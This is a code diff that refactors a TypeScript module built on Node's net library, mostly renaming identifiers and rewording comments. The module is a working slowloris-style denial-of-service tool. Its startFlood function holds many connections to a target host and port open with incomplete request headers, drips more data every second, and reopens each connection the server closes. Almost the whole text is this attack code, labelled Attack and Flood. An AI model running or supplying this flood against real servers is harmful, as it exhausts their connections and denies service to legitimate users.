@@ -1,18 +1,18 @@
 import { connect, type Socket } from 'node:net';
 
-/** A closed connection is opened again that soon, as a hostile caller would. */
-const AGAIN_MS = 100;
+/** Delay until a closed connection is opened again. */
+const RECONNECT_MS = 100;
 const DRIP_MS = 1_000;
 
-/** What a caller sends on each connection that it holds. */
+/** Data that a caller sends on each connection. */
 export interface Attack {
-  /** Absent: nothing ever comes. */
+  /** Sent at once; absent: nothing. */
   first?: string;
-  /** Every second from then on. */
+  /** Sent every second after it. */
   drip?: string;
 }
 
-/** The ways to hold a connection of a server and want nothing of it. @param head - of a request, its headers but the last line break */
+/** Ways to keep a connection of a server open without a complete request. @param head - request line and headers without the empty line */
 export function attacksOn(head: string): Record<string, Attack> {
   return {
     idle: {},
@@ -28,38 +28,38 @@ export function attacksOn(head: string): Record<string, Attack> {
   };
 }
 
-/** Connections that are being held. */
+/** A running flood. */
 export interface Flood {
   end(): void;
 }
 
-/** Whom a flood is for. */
+/** Server under attack. */
 export interface Target {
   port: number;
   host: string;
   connections: number;
-  /** Address that it comes from; absent: what the system takes. */
-  from?: string;
-  /** Default: true. False: what the server closes stays closed. */
-  again?: boolean;
+  /** Source address; absent: chosen by the system. */
+  localAddress?: string;
+  /** Whether connections that the server closes are opened again; default true. */
+  reconnect?: boolean;
 }
 
-/** Holds connections to a port, and opens another for each that is closed. */
-export function aFlood(target: Target, { first, drip }: Attack): Flood {
-  const { port, host, from, again = true } = target;
+/** Keeps connections to a port open. */
+export function startFlood(target: Target, { first, drip }: Attack): Flood {
+  const { port, host, localAddress, reconnect = true } = target;
   const held = new Set<Socket>();
-  let over = false;
+  let isEnded = false;
   const hold = () => {
-    if (over) return;
-    const socket = connect({ port, host, localAddress: from });
+    if (isEnded) return;
+    const socket = connect({ port, host, localAddress });
     held.add(socket);
     socket.on('error', () => {});
     socket.once('connect', () => first && socket.write(first));
-    // Whatever is answered is read, so that a server may close.
+    // Responses are read, so that the server can close.
     socket.resume();
     socket.once('close', () => {
       held.delete(socket);
-      if (again) setTimeout(hold, AGAIN_MS).unref();
+      if (reconnect) setTimeout(hold, RECONNECT_MS).unref();
     });
   };
   for (let i = 0; i < target.connections; i += 1) hold();
@@ -68,7 +68,7 @@ export function aFlood(target: Target, { first, drip }: Attack): Flood {
   }, DRIP_MS);
   return {
     end: () => {
-      over = true;
+      isEnded = true;
       clearInterval(dripping);
       for (const socket of held) socket.destroy();
     },
